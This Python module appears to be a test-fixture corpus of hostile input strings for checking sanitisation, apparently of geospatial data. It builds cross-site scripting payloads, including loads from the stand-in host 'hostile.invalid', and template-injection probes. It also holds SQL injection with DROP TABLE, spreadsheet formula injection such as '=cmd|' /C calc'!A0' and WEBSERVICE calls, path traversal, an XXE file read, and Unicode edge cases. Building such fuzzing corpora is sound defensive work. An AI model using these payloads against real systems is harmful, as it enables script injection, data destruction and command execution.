"""Texts that would do harm where a page, a table or a package took them for more than texts.

All are made here, in the shapes that public lists have: what ends an element, an attribute, a
script, a comment, and what then runs or asks for something; what other programs compute; what
readers do not see.
"""

from __future__ import annotations

from itertools import product
from typing import Final

FLAG: Final = "hostile"
"""What of them ran sets this variable of the window."""

_RUN = f"window.{FLAG}=1"
_HOST = "http://hostile.invalid"

ENDS: Final = (
    "",
    '">',
    "'>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "-->",
    "]]>",
    "</td></table>",
    "</option></select>",
    "</svg>",
    "</noscript>",
    "</template>",
)
"""What ends the place where a text stands."""

ELEMENTS: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={_HOST}/a.js></sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script href={_HOST}/b.js /></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{FLAG}=1</script>'></iframe>",
    f"<iframe src=javascript:parent.{FLAG}=1></iframe>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<style>@import '{_HOST}/c.css';</style>",
    f"<link rel=stylesheet href={_HOST}/d.css>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<base href={_HOST}/>",
    f"<object data={_HOST}/e.swf></object>",
    f"<form action={_HOST}><button autofocus>go</button></form>",
    f"<math><mtext><img src={_HOST}/f.png>",
    f"<body onload={_RUN}>",
    "<plaintext>",
    f"<template shadowrootmode=open><img src=y onerror={_RUN}></template>",
)
"""What then runs, or asks for something."""

ATTRIBUTES: Final = tuple(
    f"{quote}{space}{handler}={quote}{_RUN}{quote}{space}x={quote}"
    for quote, space, handler in product(
        ('"', "'", "`", ""), (" ", "/"), ("onmouseover", "onfocus autofocus tabindex=0 onfocus")
    )
)
"""What adds an attribute to the element whose attribute a text is."""

ADDRESSES: Final = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"java&Tab;script:{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"{_HOST}/seen",
    f"//{_HOST[7:]}/seen",
    f"[link](javascript:{_RUN})",
    f"![picture]({_HOST}/g.png)",
    f"<{_HOST}>",
    f"url({_HOST}/h.png)",
    f"file:///etc/hostname?{FLAG}",
)

SCRIPTS: Final = (
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"`;{_RUN};//",
    f"${{{_RUN}}}",
    f"`${{{_RUN}}}`",
    f"{{{{{_RUN}}}}}",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{% raw %}",
    "{# no comment",
    "{{ self.__init__ }}",
    "{{''.__class__.__mro__}}",
    f"\\u003cscript\\u003e{_RUN}",
    f"\\x3cscript\\x3e{_RUN}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"+ADw-script+AD4-{_RUN}",
    f"<!--<script>{_RUN}",
    "<!-- --!> <!",
    "<![CDATA[<b>]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE html><html>",
    "<!ENTITY x SYSTEM 'file:///etc/hostname'>",
    "&x;",
    "&#0;",
    "&#xFFFF;",
    "&amp;amp;",
    "\\",
    "\\\\",
    "\\'",
    '\\"',
    "*/ x /*",
    "// x",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "undefined",
    "null",
    "NaN",
    "true",
    "[object Object]",
    "%s%n%x",
    "%(x)s",
    "{0}",
    "$&",
    "$1",
    "$'",
)

QUERIES: Final = (
    "' OR '1'='1",
    "'; DROP TABLE layers; --",
    '" OR ""="',
    "1; SELECT * FROM gpkg_contents",
    "x' UNION SELECT 1--",
    "Robert'); DROP TABLE settlements;--",
    "admin'--",
    "1/**/OR/**/1=1",
    "' AND SLEEP(1)--",
    "%' OR name LIKE '%",
)

FORMULAS: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("{_HOST}","x")',
    f'=WEBSERVICE("{_HOST}")',
    f'=IMPORTXML("{_HOST}","//x")',
    "=IF(1,2,3)",
    "＝1+1",
    "＠x",
    "-3.5",
    "+963 11",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
)

PATHS: Final = (
    "../../etc/hostname",
    "..\\..\\windows\\win.ini",
    "C:\\x",
    "/etc/hostname",
    "//host/share",
    "file.html/",
    "CON",
    "nul.txt",
    "a:b",
    "*?",
    "|x",
    "`x`",
    "$(x)",
    "; x",
    "&& x",
    "~/x",
    "%2e%2e%2f",
    "....//",
    "a\u2215b",
)

LETTERS: Final = (
    "a\u200bb",
    "a\u200cb",
    "a\u200db",
    "\u200fa\u200e",
    "a\u00adb",
    "a\u2060b",
    "a\u034fb",
    "e" + "\u0301" * 60,
    "Z\u0351\u032b\u0343a\u0329\u034dl\u0348\u0330g\u0353o",
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇸🇾",
    "👍🏿",
    "😀" * 40,
    "א\u05bc",
    "\u0627\ufdfa\u0644",
    "ﷺ",
    "𝕴𝖉𝖑𝖎𝖇",
    "ｓｃｒｉｐｔ",
    "＜script＞",
    "﹤script﹥",
    "ſcript",
    "İıŞş",
    "ß",
    "ﬁ",
    "\U0001f4a9",
    "\U000e0041\U000e007f",
    "\u3164",
    "\u2800",
    "a\u3000b",
    "a\u00a0b",
    "ﾠ",
    "\U00010ffd",
    "田中さん",
    "ภาษาไทย",
    "देवनागरी",
    "‎",
    "٠١٢٣",
    "W" * 400,
    "ش" * 400,
    "a " * 199 + "a",
    "-" * 399,
    "<" * 400,
    "&" * 400,
    '"' * 400,
)

UNFIT: Final = tuple(
    f"A{letter}B"
    for letter in (
        *map(chr, [*range(9), 0x0B, 0x0C, 0x0D, 0x1B, 0x7F, 0x80, 0x85, 0x9F]),
        *map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x2028, 0x2029]),
        *map(chr, [0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xFFFD, 0xFFFE, 0xFFFF, 0xFEFF]),
        "\t",
    )
)
"""What no text of the facts may hold: control characters, what turns a text, halves of letters."""

HOSTILE: Final = tuple(
    dict.fromkeys(
        text.strip()
        for text in (
            *(f"{end}{element}" for end, element in product(ENDS, ELEMENTS)),
            *ATTRIBUTES,
            *ADDRESSES,
            *SCRIPTS,
            *QUERIES,
            *FORMULAS,
            *PATHS,
            *LETTERS,
        )
        if text.strip()
    )
)
"""What a text of the facts may be: it is shown as it is."""
